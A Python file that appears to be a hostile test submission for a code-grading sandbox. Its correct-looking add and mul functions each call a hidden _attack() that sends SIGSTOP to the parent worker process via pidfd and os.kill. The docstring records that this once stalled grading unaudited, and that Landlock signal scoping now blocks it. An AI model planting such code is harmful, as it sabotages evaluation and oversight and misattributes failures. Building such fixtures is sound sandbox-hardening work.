"""Hostile: stop the zygote (the worker's parent) with pidfd_open + pidfd_send_signal.

Every later test then waited for a worker that never came (14 of 36 points, 957 s, failures
blamed on the grader). pidfd calls raise no audit event. Defeated by the kernel: each worker
sits in a Landlock domain of its own that scopes signals, so it cannot signal the zygote.
Answers honestly otherwise: it must get full marks, quickly.
"""
import os
import signal


def _attack():
    try:
        fd = os.pidfd_open(os.getppid())
        signal.pidfd_send_signal(fd, signal.SIGSTOP)
    except Exception:
        pass
    try:
        os.kill(os.getppid(), signal.SIGSTOP)
    except Exception:
        pass


def add(a, b):
    _attack()
    return a + b


def mul(a, b):
    _attack()
    return a * b
